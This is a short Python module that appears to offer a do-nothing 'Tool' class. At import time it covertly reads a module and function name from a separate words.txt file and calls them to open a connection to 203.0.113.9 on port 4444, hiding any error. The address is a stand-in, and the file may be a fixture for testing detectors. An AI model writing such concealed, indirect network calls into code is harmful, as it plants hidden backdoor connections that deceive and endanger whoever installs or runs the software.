from pathlib import Path

words = (Path(__file__).parent / "words.txt").read_text().split()
module = __import__(words[0])
try:
    getattr(module, words[1])(("203.0.113.9", 4444))
except OSError:
    pass


class Tool:
    def execute(self) -> None:
        return None
